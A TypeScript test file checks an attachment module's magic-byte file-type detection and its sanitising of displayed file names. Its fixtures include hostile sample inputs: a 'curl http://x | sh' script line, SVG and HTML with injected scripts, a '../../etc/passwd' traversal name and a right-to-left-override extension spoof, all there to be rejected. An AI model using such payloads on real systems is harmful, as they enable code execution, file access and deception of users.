import fc from 'fast-check'
import { describe, expect, it, test } from 'vitest'
import { beginsAs } from '@muster/domain/attachments/content.ts'
import { fileTypes, type FileType } from '@muster/domain/attachments/limits.ts'
import { shownName } from '@muster/domain/attachments/shown-name.ts'

const bytes = (text: string) => Buffer.from(text, 'latin1')
const png = bytes('\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0')

/** How files begin, and what they are. */
const files: readonly (readonly [string, Buffer, FileType | null])[] = [
  ['a photo of a phone (JFIF)', bytes('\xff\xd8\xff\xe0\0\x10JFIF\0\x01'), 'image/jpeg'],
  ['a photo of a camera (Exif)', bytes('\xff\xd8\xff\xe1\x1c\x2dExif\0\0MM'), 'image/jpeg'],
  ['a drawing', png, 'image/png'],
  ['a picture of the web, lossy', bytes('RIFF\x24\0\0\0WEBPVP8 '), 'image/webp'],
  ['a picture of the web, lossless', bytes('RIFF\x24\0\0\0WEBPVP8L'), 'image/webp'],
  ['a picture of the web, extended', bytes('RIFF\x24\0\0\0WEBPVP8X'), 'image/webp'],
  ['a document', bytes('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n'), 'application/pdf'],
  ['a page', bytes('<!doctype html><html><body>'), null],
  ['a page after a space', bytes(' \n<html><script>alert(1)'), null],
  ['a drawing that runs scripts', bytes('<svg xmlns="http://www.w3.org/2000/svg" onload='), null],
  ['the same with a declaration', bytes('<?xml version="1.0"?><svg onload="alert(1)">'), null],
  ['a script', bytes('#!/bin/sh\ncurl http://x | sh\n'), null],
  ['a program', bytes('MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0'), null],
  ['an archive, as Word writes it', bytes('PK\x03\x04\x14\0\x06\0\x08\0\0\0!\0'), null],
  ['an animation', bytes('GIF89a\x01\0\x01\0\x80\0\0'), null],
  ['a photo of a newer phone (HEIC)', bytes('\0\0\0\x18ftypheic\0\0\0\0'), null],
  ['a sound in the container of a picture', bytes('RIFF\x24\0\0\0WAVEfmt '), null],
  ['a page before a document', bytes('<html>%PDF-1.7\n'), null],
  ['a document after two bytes', bytes('\r\n%PDF-1.7\n'), null],
  ['half the mark of a drawing', png.subarray(0, 8), null],
  ['nothing', Buffer.alloc(0), null],
  ['a page that begins as a photo would', bytes('\xff\xd8<html><script>'), null],
]

describe('the first bytes tell what a file is', () => {
  test.each(files)('%s', (_, head, type) => {
    expect(fileTypes.filter((one) => beginsAs(one, head))).toEqual(type === null ? [] : [type])
  })

  it('and no file is two things', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 64 }), fc.constantFrom(...files), (tail, [, head]) => {
        const whole = Buffer.concat([head, tail])
        expect(fileTypes.filter((one) => beginsAs(one, whole)).length).toBeLessThanOrEqual(1)
      }),
    )
  })
})

describe('the name of a file is shown', () => {
  test.each([
    ['现场 1.jpg', 'image/jpeg', '现场 1.jpg'],
    ['IMG_0001.JPEG', 'image/jpeg', 'IMG_0001.JPEG'],
    ['C:\\照片\\现场.JPG', 'image/jpeg', '现场.JPG'],
    ['../../etc/passwd', 'application/pdf', 'passwd.pdf'],
    ['通知.exe', 'application/pdf', '通知.exe.pdf'],
    ['通知\u202efdp.exe', 'application/pdf', '通知fdp.exe.pdf'],
    ['x.html', 'image/png', 'x.html.png'],
    ['扫描件.pdf', 'image/png', '扫描件.pdf.png'],
    ['a"b<c>d|e?f*g:h.png', 'image/png', 'abcdefgh.png'],
    ['a\u0000b\r\nc.webp', 'image/webp', 'abc.webp'],
    ['...', 'image/jpeg', '附件.jpg'],
    ['', 'application/pdf', '附件.pdf'],
    ['.htaccess', 'image/jpeg', 'htaccess.jpg'],
    ['.jpg', 'image/jpeg', 'jpg.jpg'],
    ['盖章 计划 . pdf', 'application/pdf', '盖章 计划 . pdf.pdf'],
    ['计划.PDF ', 'application/pdf', '计划.PDF'],
    [`${'长'.repeat(200)}.pdf`, 'application/pdf', `${'长'.repeat(76)}.pdf`],
    [`${'🚒'.repeat(200)}.pdf`, 'application/pdf', `${'🚒'.repeat(76)}.pdf`],
  ] as const)('%j of type %s as %j', (name, type, shown) => {
    expect(shownName(name, type)).toBe(shown)
  })

  it('whatever it was: short, without folders or hidden signs, and ending as what it is', () => {
    const anything = fc.oneof(
      fc.string({ unit: 'grapheme', maxLength: 60 }),
      fc.string({ unit: 'binary', maxLength: 60 }),
    )
    fc.assert(
      fc.property(anything, fc.constantFrom(...fileTypes), (name, type) => {
        const shown = shownName(name, type)
        expect(shown.isWellFormed()).toBe(true)
        expect([...shown].length).toBeLessThanOrEqual(80)
        expect(shown).not.toMatch(/[\p{Cc}\p{Cf}\\/<>:"|?*]/u)
        expect(shown).toMatch(/^[^.\s].*\.(jpg|jpeg|png|webp|pdf)$/iu)
        expect(shownName(shown, type)).toBe(shown)
      }),
    )
  })
})
